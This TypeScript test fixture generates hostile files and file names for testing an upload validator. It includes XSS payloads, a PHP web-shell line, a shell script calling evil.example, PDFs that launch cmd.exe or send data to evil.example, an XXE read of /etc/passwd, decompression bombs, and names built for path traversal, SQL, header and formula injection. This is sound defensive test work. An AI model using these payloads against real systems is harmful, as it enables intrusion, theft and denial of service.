import { randomBytes } from 'node:crypto';
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { realPdf } from './case-world.ts';

/** Where it is found again, something of the file came through. */
export const marker = 'HOSTILE-9X4T';

interface HostileFile {
  readonly what: string;
  readonly bytes: Buffer;
  readonly name: string;
  /** Whether it is taken, because it does no harm as it is kept and given out; otherwise it is refused. */
  readonly isTaken: boolean;
}

const script = `<script>alert('${marker}')</script>`;
const page = `<!doctype html><html><body>${script}</body></html>`;
const svg = (inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`;

const plain = sharp({ create: { width: 64, height: 48, channels: 3, background: '#2a7' } });
const jpeg = await plain.clone().jpeg().toBuffer();
const png = await plain.clone().png().toBuffer();
const [gif, webp, tiff, avif] = await Promise.all([
  plain.clone().gif().toBuffer(),
  plain.clone().webp().toBuffer(),
  plain.clone().tiff().toBuffer(),
  plain.clone().avif({ effort: 0 }).toBuffer(),
]);
const noted = await plain
  .clone()
  .withExif({
    IFD0: { ImageDescription: marker, Artist: `"><img src=x onerror=alert('${marker}')>` },
    IFD3: { GPSLatitude: '23/1 48/1 0/1', GPSLongitude: '90/1 24/1 0/1' },
  })
  .jpeg()
  .toBuffer();

const scripted = await plain
  .clone()
  .withExif({ IFD0: { ImageDescription: script } })
  .jpeg()
  .toBuffer();

const chunk = (type: string, data: Uint8Array) => {
  const head = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(head));
  return Buffer.concat([length, head, sum]);
};

/** A PNG that says it has so many pixels, whatever lies in it. */
function pngOf(width: number, height: number, pixels: Uint8Array, bits = 8): Buffer {
  const size = Buffer.alloc(13);
  size.writeUInt32BE(width);
  size.writeUInt32BE(height, 4);
  size.writeUInt8(bits, 8);
  return Buffer.concat([
    png.subarray(0, 8),
    chunk('IHDR', size),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const withChunk = (type: string, text: string) =>
  Buffer.concat([png.subarray(0, 33), chunk(type, Buffer.from(text, 'latin1')), png.subarray(33)]);

/** A JPEG that says it has so many pixels. */
function jpegOf(width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg);
  const frame = copy.findIndex((byte, at) => byte === 0xff && [0xc0, 0xc2].includes(copy[at + 1] ?? 0));
  copy.writeUInt16BE(height, frame + 5);
  copy.writeUInt16BE(width, frame + 7);
  return copy;
}

const withComment = (text: string) => {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(text.length + 2);
  return Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe]),
    length,
    Buffer.from(text, 'latin1'),
    jpeg.subarray(2),
  ]);
};

/** The end of a ZIP archive with one file, as readers look for it from behind. */
const zip = Buffer.concat([
  Buffer.from('PK\x03\x04', 'latin1'),
  randomBytes(60),
  Buffer.from('PK\x05\x06', 'latin1'),
  Buffer.alloc(18),
]);
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);
const text = (content: string) => Buffer.from(content, 'latin1');
const behind = (...parts: readonly (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? text(part) : part)));

/** A PDF whose stream of objects holds what is given, packed. */
const packed = (content: Uint8Array, count: number, times = 1) => {
  const stream = deflateSync(content);
  const one = `<< /Type /ObjStm /N ${count} /First 10 /Filter /FlateDecode /Length ${stream.length} >>\nstream\n${stream.toString('latin1')}\nendstream`;
  return realPdf(marker, {
    more: Array.from({ length: times }, (_, each) => `${50 + each} 0 obj\n${one}\nendobj\n`).join(''),
  });
};

const pdfs: readonly (readonly [string, Buffer])[] = [
  [
    'runs a script when it opens',
    realPdf(marker, { catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }),
  ],
  [
    'has a script by name',
    realPdf(marker, {
      catalog: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> >>',
    }),
  ],
  ['starts a program', realPdf(marker, { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
  [
    'calls an address',
    realPdf(marker, { catalog: '/OpenAction << /S /URI /URI (https://evil.example/) >>' }),
  ],
  [
    'sends a form',
    realPdf(marker, { catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example/) >>' }),
  ],
  [
    'reads a file of the reader',
    realPdf(marker, { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) >>' }),
  ],
  ['has a form in XFA', realPdf(marker, { catalog: '/AcroForm << /XFA (<xdp/>) /Fields [] >>' })],
  [
    'carries another file',
    realPdf(marker, { catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) << >>] >> >>' }),
  ],
  [
    'has a model whose script runs when it is shown',
    realPdf(marker, {
      onPage: '/Annots [ << /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 9 0 R >> ]',
      more: '9 0 obj\n<< /Type /3D /Subtype /U3D /OnInstantiate (JavaScript) /Length 0 >>\nstream\n\nendstream\nendobj\n',
    }),
  ],
  [
    'has a film that asks an address',
    realPdf(marker, {
      onPage:
        '/Annots [ << /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets (https://evil.example/) >> >> ]',
    }),
  ],
  ['has a page as wide as a country', realPdf(marker, { box: '[0 0 1000000000 1]' })],
  ['has a page without a size', realPdf(marker, { box: '[0 0 1e999 nil]' })],
  [
    'is its own parent',
    realPdf(marker, { more: '2 0 obj\n<< /Type /Pages /Parent 2 0 R /Kids [3 0 R] >>\nendobj\n' }),
  ],
  ['holds a stream that unpacks to two gigabytes', packed(zeros(60), 1, 34)],
  [
    'holds a hundred thousand objects in one stream',
    packed(behind('9 0       ', '<<'.repeat(200_000)), 100_000),
  ],
  [
    'holds dictionaries in dictionaries without end',
    realPdf(marker, { more: '7 0 obj\n<<'.repeat(200_000) }),
  ],
  [
    'holds two hundred thousand objects',
    realPdf(marker, {
      more: Array.from({ length: 200_000 }, (_, each) => `${each + 9} 0 obj\n<<>>\nendobj\n`).join(''),
    }),
  ],
  [
    'counts objects up to a number of nine digits',
    realPdf(marker, { more: '999999999 0 obj\n<< >>\nendobj\n' }),
  ],
  [
    'says that it has a password',
    realPdf(marker, { more: '8 0 obj\n<< >>\nendobj\ntrailer\n<< /Encrypt 8 0 R >>\n' }),
  ],
  ['has no pages', behind('%PDF-1.7\n', marker, '\n%%EOF\n')],
  [
    'points behind its end',
    behind(
      '%PDF-1.7\n1 0 obj\n<< /Type /Page >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n99999999\n%%EOF\n',
    ),
  ],
  ['is a page as well', behind('%PDF-1.7\n', page, '\n%%EOF\n')],
];

/** Names that lead elsewhere, deceive who reads them, or break what they are written into. */
const names = [
  '../../../../etc/passwd.jpg',
  '..\\..\\windows\\system32\\a.jpg',
  '/etc/cron.d/a.jpg',
  'C:\\a.jpg',
  'photo\u202egpj.exe',
  'photo\u0000.php.jpg',
  'a\r\nSet-Cookie: x=1.jpg',
  `${'a'.repeat(300)}.jpg`,
  `"><img src=x onerror=alert('${marker}')>.jpg`,
  'passport.jpg.html',
  'passport.svg',
  'passport.exe',
  '.htaccess',
  'CON.jpg',
  '\u200b\u2066.jpg',
  "a'; DROP TABLE visa_cases; --.jpg",
  '%2e%2e%2fa.jpg',
  '=cmd|calc!A1.jpg',
];

const refused: readonly (readonly [string, Buffer, string])[] = [
  ['SVG with a script', text(svg(script)), 'a.svg'],
  ['SVG with a page in it', text(svg(`<foreignObject>${page}</foreignObject>`)), 'a.svg'],
  ['SVG that loads from elsewhere', text(svg('<image xlink:href="https://evil.example/a"/>')), 'a.svg'],
  [
    'SVG that reads a file',
    text(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('&x;')}`),
    'a.svg',
  ],
  ['SVG called a picture', text(svg(script)), 'a.jpg'],
  ['page called a picture', text(page), 'a.jpg'],
  ['page called a PDF', text(page), 'a.pdf'],
  ['page behind spaces', text(`${' '.repeat(3_000)}${page}`), 'a.png'],
  ['page in another alphabet', Buffer.from(page, 'utf16le'), 'a.jpg'],
  ['script', text(`alert('${marker}')`), 'a.js'],
  ['PHP', text('<?php system($_GET["a"]);'), 'a.php.jpg'],
  ['shell script', text('#!/bin/sh\ncurl evil.example\n'), 'a.jpg'],
  ['program of Windows', behind('MZ', randomBytes(2_000)), 'a.jpg'],
  ['program of Linux', behind('\x7fELF', randomBytes(2_000)), 'a.pdf'],
  ['archive', zip, 'a.pdf'],
  ['bomb in an archive', gzipSync(zeros(64)), 'a.pdf'],
  ['bomb without a head', deflateSync(zeros(64)), 'a.png'],
  ['picture that is an archive, too', behind(jpeg, zip), 'a.jpg'],
  ['PNG that is an archive, too', behind(png, zip), 'a.png'],
  ['PDF that is an archive, too', behind(realPdf(marker), zip), 'a.pdf'],
  ['animation that is a page', behind(gif, page), 'a.gif'],
  ['animation', gif, 'a.jpg'],
  ['WebP', webp, 'a.webp'],
  ['TIFF', tiff, 'a.tif'],
  ['AVIF', avif, 'a.avif'],
  ['nothing', Buffer.alloc(0), 'a.jpg'],
  ['one byte', Buffer.from([0xff]), 'a.jpg'],
  ['head of a JPEG alone', jpeg.subarray(0, 2), 'a.jpg'],
  ['head of a PNG alone', png.subarray(0, 8), 'a.png'],
  ['JPEG cut off in the middle', jpeg.subarray(0, jpeg.length - 60), 'a.jpg'],
  ['JPEG cut off behind its head', jpeg.subarray(0, jpeg.indexOf(Buffer.from([0xff, 0xda])) + 20), 'a.jpg'],
  ['archive two thousand bytes before the end of a JPEG', behind(jpeg, zip, Buffer.alloc(2_000)), 'a.jpg'],
  [
    'archive with a long comment behind a PDF',
    behind(realPdf(marker), zip, Buffer.alloc(60_000), '%%EOF\n'),
    'a.pdf',
  ],
  ['PNG cut off', png.subarray(0, png.length - 20), 'a.png'],
  ['PDF cut off', realPdf(marker).subarray(0, -12), 'a.pdf'],
  ['PNG of 50,000 by 50,000', pngOf(50_000, 50_000, deflateSync(zeros(4))), 'a.png'],
  ['PNG of the most there can be', pngOf(2 ** 31 - 1, 2 ** 31 - 1, deflateSync(zeros(1))), 'a.png'],
  ['JPEG of 65,535 by 65,535', jpegOf(65_535, 65_535), 'a.jpg'],
  ['PNG with a page in a text', withChunk('tEXt', `Comment\0${page}`), 'a.png'],
  ['JPEG with a page in a comment', withComment(page), 'a.jpg'],
  ['JPEG with a script in what the camera noted', scripted, 'a.jpg'],
  ['JPEG with PHP in a comment', withComment('<?php system($_GET["a"]); ?>'), 'a.jpg'],
  ['noise', randomBytes(20_000), 'a.jpg'],
  ['letters', text('passport '.repeat(1_000)), 'passport.pdf'],
];

const taken: readonly (readonly [string, Buffer, string])[] = [
  ['JPEG with markup and a place in what the camera noted', noted, 'a.jpg'],
  ['JPEG with noise behind it', behind(jpeg, randomBytes(5_000)), 'a.jpg'],
  ['PNG whose pixels are missing', pngOf(900, 900, deflateSync(Buffer.alloc(10))), 'a.png'],
  ['PNG whose pixels are a bomb', pngOf(9_000, 9_000, deflateSync(zeros(64)), 8), 'a.png'],
  ['PNG with an unknown chunk', withChunk('miXd', marker), 'a.png'],
  ['picture called a page', jpeg, 'a.html'],
];

/** Files and names that somebody would send to do harm. */
export const hostileFiles: readonly HostileFile[] = [
  ...refused.map(([what, bytes, name]) => ({ what, bytes, name, isTaken: false })),
  ...taken.map(([what, bytes, name]) => ({ what, bytes, name, isTaken: true })),
  ...pdfs.map(([what, bytes]) => ({ what: `PDF that ${what}`, bytes, name: 'a.pdf', isTaken: true })),
  ...names.map((name) => ({
    what: `picture called ${JSON.stringify(name)}`,
    bytes: jpeg,
    name,
    isTaken: true,
  })),
];
